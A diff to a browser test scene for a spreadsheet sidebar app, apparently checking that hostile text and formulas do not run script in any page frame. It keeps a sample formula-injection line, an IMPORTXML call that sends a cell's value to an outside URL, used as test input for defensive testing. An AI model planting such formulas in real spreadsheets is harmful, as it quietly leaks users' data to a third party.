@@ -1,7 +1,7 @@
 import type { Frame, Page } from 'playwright-core';
 import { words } from '../../../host/page/text';
 import * as sidebarText from '../../../sidebar/text';
-import { cellOf, chosen, comes, pictured, sampled, shown, sidebar, stored, titleOf, typed } from '../hands';
+import { cellOf, chosen, comes, pictured, shown, sidebar, stored, titleOf, typed } from '../hands';
 import type { Scene } from '../scene';
 import { CHECK } from './checked';
 
@@ -16,7 +16,9 @@ const HOSTILE: readonly string[] = [
 const FORMULA = '=IMPORTXML("http://example.com/?"&A1,"//a")';
 
 async function unharmed(page: Page): Promise<void> {
-  for (const frame of page.frames()) expect(await hackedIn(frame)).toBe(false);
+  // A blank one is there for a moment only: a script's realm is taken from it.
+  const frames = page.frames().filter((frame) => frame.url() !== 'about:blank');
+  for (const frame of frames) expect(await hackedIn(frame)).toBe(false);
 }
 
 const hackedIn = (frame: Frame): Promise<boolean> => frame.evaluate(() => 'hacked' in window);
@@ -25,7 +27,6 @@ const hackedIn = (frame: Frame): Promise<boolean> => frame.evaluate(() => 'hacke
 export const hostileText: Scene = async ({ page, language }) => {
   const text = { en: sidebarText.en, zh: sidebarText.zh }[language];
   const pageText = words[language];
-  await sampled(page, language);
   const [settings, stores, people] = ['settings', 'stores', 'people'].map((tab) => titleOf(tab, language)) as [
     string,
     string,
